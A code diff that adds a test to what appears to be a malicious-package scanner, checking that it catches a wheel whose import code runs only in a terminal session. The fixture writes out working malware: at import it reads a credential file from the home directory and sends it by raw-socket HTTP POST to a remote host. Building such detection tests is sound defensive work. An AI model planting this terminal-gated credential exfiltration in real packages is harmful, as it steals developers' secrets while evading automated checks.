@@ -95,3 +95,40 @@ def test_a_payload_that_waits_for_a_second_import_is_caught(tmp_path: Path) -> N
     assert ps010 and ps010[0].phase is Phase.EXERCISE, [(f.rule_id, f.phase) for f in report.findings]
     ex = next(p for p in report.phases if p.phase is Phase.EXERCISE and p.pass_name == "default")
     assert any("imported again" in p for p in ex.problems), ex.problems
+
+
+def test_a_payload_that_runs_only_on_a_terminal_is_caught(tmp_path: Path) -> None:
+    """At import, only where ``sys.stdout``/``sys.stdin`` is a terminal (a developer's
+    session; every step's streams were pipes): reads a credential and POSTs it. Clean on
+    main. The exercise phase's second session of a library runs on a pty."""
+    r = Randomised()
+    host, port, name, cred = r.address(), r.port(), r.name("tty"), r.credential()
+    stream = r.rng.choice(["sys.stdout", "sys.stdin", "sys.stderr"])
+    src = textwrap.dedent(
+        f"""\
+        import os, socket, sys
+
+        if {stream}.isatty():
+            try:
+                data = open(os.path.expanduser("~/{cred}"), "rb").read()
+            except OSError:
+                data = b""
+            s = socket.socket()
+            s.settimeout(3)
+            try:
+                s.connect(({host!r}, {port}))
+                s.sendall(b"POST /c HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: "
+                          + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
+                s.recv(100)
+            except OSError:
+                pass
+            finally:
+                s.close()
+        """
+    )
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
+    code, report = run_cli(tmp_path, str(whl))
+    assert report is not None
+    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
+    ps002 = [f for f in report.findings if f.rule_id == "PS002" and f.phase is Phase.EXERCISE]
+    assert ps002 and any(e.destination == f"{host}:{port}" for e in ps002[0].evidence), report.findings
